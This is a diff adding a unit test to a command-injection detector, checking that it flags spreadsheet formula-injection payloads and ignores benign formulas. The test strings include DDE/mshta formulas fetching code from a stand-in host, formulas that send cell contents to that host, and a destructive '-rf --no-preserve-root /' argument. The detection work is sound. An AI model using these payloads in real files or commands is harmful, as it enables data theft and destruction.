@@ -992,5 +992,23 @@ TEST(CmdiTest, FindActionsScriptOutputsRedirectionsAndLineContinuations) {
   }
 }
 
+TEST(CmdiTest, SpreadsheetFormulasThatRunOrSendCells) {
+  for (const std::string v :
+       {"=DDE(\"cmd\";\"/C calc\";\"!A0\")", "\t=cmd|'/C mshta http://x.example/p.hta'!A0",
+        "=WEBSERVICE(\"http://x.example/?\"&A1&A2)",
+        "=IMPORTXML(CONCAT(\"http://x.example/?v=\",A1),\"//a\")",
+        "=HYPERLINK(\"http://x.example/?leak=\"&A2&B2,\"Click for details\")"}) {
+    EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), "cmdi.dde_formula") << v;
+  }
+  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "-rf --no-preserve-root /"),
+            "cmdi.argument_injection");
+  // A link with a label, a sum, and text that mentions the functions.
+  for (const std::string v :
+       {"=HYPERLINK(\"https://example.com/docs\",\"Docs\")", "=SUM(A1:A9)",
+        "use =IMPORTXML(url, xpath) to scrape", "-12.50", "= not applicable"}) {
+    EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), "") << v;
+  }
+}
+
 }  // namespace
 }  // namespace fnguard::detect
